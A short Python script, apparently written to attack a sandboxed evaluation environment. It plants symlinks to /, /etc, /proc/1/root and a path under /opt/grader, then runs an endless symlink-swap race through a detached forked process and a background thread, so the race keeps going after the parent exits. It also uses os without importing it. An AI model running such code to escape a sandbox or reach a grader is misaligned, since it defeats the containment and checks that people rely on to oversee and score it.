import threading

for number, target in enumerate(
    ("/", "/opt", "/opt/grader/grader/inside", "/etc", "/proc/1/root", "..", "/work")
):
    for place in (".", "/work", "/dev/shm"):
        os.symlink(target, f"{place}/link{number}")
for number in range(200):
    os.makedirs(f"/work/deep{number}/a/b", exist_ok=True)


def exchange():
    while True:
        for number in range(200):
            try:
                os.rename(f"/work/deep{number}/a", f"/work/deep{number}/c")
                os.symlink("/opt", f"/work/deep{number}/a")
                os.unlink(f"/work/deep{number}/a")
                os.rename(f"/work/deep{number}/c", f"/work/deep{number}/a")
            except OSError:
                pass


if os.fork() == 0:
    os.setsid()
    exchange()
threading.Thread(target=exchange, daemon=True).start()
